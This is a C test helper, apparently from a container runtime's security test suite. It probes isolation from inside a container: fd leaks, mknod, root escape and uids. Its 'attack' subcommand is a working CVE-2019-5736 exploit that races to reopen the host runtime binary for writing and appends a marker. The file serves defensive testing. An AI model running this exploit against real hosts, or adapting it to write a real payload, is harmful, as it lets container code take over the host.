/*
 * probe: a static helper the security tests copy into a container's rootfs to attack the runtime
 * from the inside. Every subcommand prints one result per line; the tests parse them.
 *
 *   probe fds                       every open fd except the one listing /proc/self/fd:
 *                                   "FD <n> <readlink target>"
 *   probe attack DEV INO SECS LOG [nostop]
 *                                   CVE-2019-5736: for SECS seconds scan /proc for any process
 *                                   whose /proc/<pid>/exe is the file (DEV, INO) (the runtime
 *                                   binary on the host), open it O_PATH (and O_RDONLY, and
 *                                   O_WRONLY directly), keep the fds, and keep trying to reopen
 *                                   them for writing through /proc/self/fd/N and append a marker.
 *                                   Also SIGSTOPs every new process it sees for a moment, to
 *                                   widen the runtime's window (not with "nostop": use it
 *                                   whenever the container shares the host's pid namespace).
 *                                   Logs to LOG:
 *                                   "SEEN <pid> <errno of open>" for candidate pids,
 *                                   "GOT_EXE <pid> <how>" when it holds the target,
 *                                   "ESCAPED <how>" when it wrote to the target.
 *   probe open PATH MODE            MODE r|w|rw: open(2) and, for r, read one byte:
 *                                   "OK" or "ERR <errno> <strerror>"
 *   probe stat PATH                 "DEV <dev> INO <ino>" of PATH
 *   probe cwd                       "CWD <getcwd or ERR>" and "DOTDOT <ino of ..> ROOT <ino of />"
 *   probe mknod PATH b|c MAJ MIN    mknod(2): "OK" or "ERR <errno> <strerror>"
 *   probe ids                       "RUID <r> EUID <e> SUID <s>"
 *   probe spin SECS                 busy-wait SECS seconds (a pid to observe)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int cmd_fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) {
        printf("ERR %d %s\n", errno, strerror(errno));
        return 1;
    }
    int me = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        int n = atoi(e->d_name);
        if (n == me)
            continue;
        char p[64], t[PATH_MAX];
        snprintf(p, sizeof p, "/proc/self/fd/%d", n);
        ssize_t l = readlink(p, t, sizeof t - 1);
        t[l < 0 ? 0 : l] = 0;
        printf("FD %d %s\n", n, t);
    }
    closedir(d);
    return 0;
}

static FILE *logf_;
static void logline(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(logf_, fmt, ap);
    va_end(ap);
    fputc('\n', logf_);
    fflush(logf_);
}

#define MAXPID 4194304
#define MAXHELD 256

static int cmd_attack(unsigned long long dev, unsigned long long ino, double secs, const char *log, int stop) {
    logf_ = fopen(log, "a");
    if (!logf_)
        return 2;
    static unsigned char seen[MAXPID + 1], matched[MAXPID + 1];
    int held[MAXHELD];
    int nheld = 0, escaped = 0;
    pid_t self = getpid();
    double end = now() + secs;
    long scans = 0;
    logline("START pid=%d dev=%llu ino=%llu", self, dev, ino);
    while (now() < end && !escaped) {
        scans++;
        DIR *d = opendir("/proc");
        if (!d)
            break;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || pid > MAXPID)
                continue;
            int fresh = !seen[pid];
            if (fresh) {
                seen[pid] = 1;
                /* Freeze it while we look: widens any window the runtime leaves. */
                if (stop)
                    kill(pid, SIGSTOP);
            }
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            int err = fd < 0 ? errno : 0;
            int match = 0;
            if (fd >= 0) {
                struct stat st;
                if (fstat(fd, &st) == 0 && st.st_dev == (dev_t)dev && st.st_ino == (ino_t)ino)
                    match = 1;
            }
            if (match && matched[pid]) {
                /* Already holding this one: nothing new to learn. */
                close(fd);
                fd = -1;
                match = 0;
            }
            if (fresh || match)
                logline("SEEN %d %d%s", pid, err, match ? " target" : "");
            if (match) {
                matched[pid] = 1;
                if (nheld < MAXHELD) {
                    held[nheld++] = fd;
                    fd = -1;
                    logline("GOT_EXE %d O_PATH", pid);
                }
                int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (w >= 0) {
                    logline("GOT_EXE %d O_WRONLY-direct", pid);
                    if (write(w, "PWNED-by-sprout-sectest\n", 24) == 24) {
                        logline("ESCAPED direct-write pid %d", pid);
                        escaped = 1;
                    }
                    close(w);
                } else {
                    logline("DIRECT_WRITE_ERR %d %d", pid, errno);
                }
            }
            if (fd >= 0)
                close(fd);
            if (fresh && stop)
                kill(pid, SIGCONT);
        }
        closedir(d);
        /* Reopen what we hold for writing (the original exploit: wait for the runtime to exit,
         * then the binary is no longer busy). */
        for (int i = 0; i < nheld && !escaped; i++) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                if (write(w, "PWNED-by-sprout-sectest\n", 24) == 24) {
                    logline("ESCAPED reopen-write");
                    escaped = 1;
                }
                close(w);
            }
        }
    }
    logline("END scans=%ld held=%d escaped=%d", scans, nheld, escaped);
    fclose(logf_);
    return escaped ? 3 : 0;
}

static int cmd_open(const char *path, const char *mode) {
    int flags = O_RDONLY;
    if (!strcmp(mode, "w"))
        flags = O_WRONLY;
    else if (!strcmp(mode, "rw"))
        flags = O_RDWR;
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) {
        printf("ERR %d %s\n", errno, strerror(errno));
        return 1;
    }
    if (flags == O_RDONLY) {
        char b;
        if (read(fd, &b, 1) < 0) {
            printf("READERR %d %s\n", errno, strerror(errno));
            return 1;
        }
    }
    printf("OK\n");
    return 0;
}

static int cmd_stat(const char *path) {
    struct stat st;
    if (stat(path, &st) < 0) {
        printf("ERR %d %s\n", errno, strerror(errno));
        return 1;
    }
    printf("DEV %llu INO %llu\n", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
    return 0;
}

static int cmd_cwd(void) {
    char b[PATH_MAX];
    if (getcwd(b, sizeof b))
        printf("CWD %s\n", b);
    else
        printf("CWD ERR %d %s\n", errno, strerror(errno));
    struct stat a, r;
    if (stat(".", &a) == 0 && stat("/", &r) == 0)
        printf("DOT %llu:%llu ROOT %llu:%llu\n", (unsigned long long)a.st_dev, (unsigned long long)a.st_ino,
               (unsigned long long)r.st_dev, (unsigned long long)r.st_ino);
    /* Walk up with ".." from the cwd: inside the container we must reach the container's "/". */
    int fd = open(".", O_PATH | O_DIRECTORY);
    for (int i = 0; i < 64 && fd >= 0; i++) {
        int up = openat(fd, "..", O_PATH | O_DIRECTORY);
        struct stat s1, s2;
        fstat(fd, &s1);
        fstat(up, &s2);
        close(fd);
        fd = up;
        if (s1.st_ino == s2.st_ino && s1.st_dev == s2.st_dev)
            break;
    }
    struct stat top;
    if (fd >= 0 && fstat(fd, &top) == 0) {
        printf("TOP %llu:%llu\n", (unsigned long long)top.st_dev, (unsigned long long)top.st_ino);
        /* What is in the top directory we reached (the host's / has e.g. "work", "etc/os-release"). */
        int m = openat(fd, "sectest-host-marker", O_RDONLY);
        printf("HOSTMARKER %s\n", m >= 0 ? "visible" : "absent");
    }
    return 0;
}

static int cmd_mknod(const char *path, const char *type, int maj, int min) {
    mode_t m = (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666;
    if (mknod(path, m, makedev(maj, min)) < 0) {
        printf("ERR %d %s\n", errno, strerror(errno));
        return 1;
    }
    printf("OK\n");
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "fds"))
        return cmd_fds();
    if (argc >= 6 && !strcmp(argv[1], "attack"))
        return cmd_attack(strtoull(argv[2], 0, 10), strtoull(argv[3], 0, 10), atof(argv[4]), argv[5],
                          !(argc >= 7 && !strcmp(argv[6], "nostop")));
    if (argc >= 4 && !strcmp(argv[1], "open"))
        return cmd_open(argv[2], argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "stat"))
        return cmd_stat(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "cwd"))
        return cmd_cwd();
    if (argc >= 6 && !strcmp(argv[1], "mknod"))
        return cmd_mknod(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]));
    if (argc >= 2 && !strcmp(argv[1], "ids")) {
        uid_t r, e, su;
        getresuid(&r, &e, &su);
        printf("RUID %d EUID %d SUID %d\n", (int)r, (int)e, (int)su);
        return 0;
    }
    if (argc >= 3 && !strcmp(argv[1], "spin")) {
        double end = now() + atof(argv[2]);
        while (now() < end)
            ;
        return 0;
    }
    fprintf(stderr, "usage: probe fds|attack|open|stat|cwd|mknod|spin ...\n");
    return 64;
}
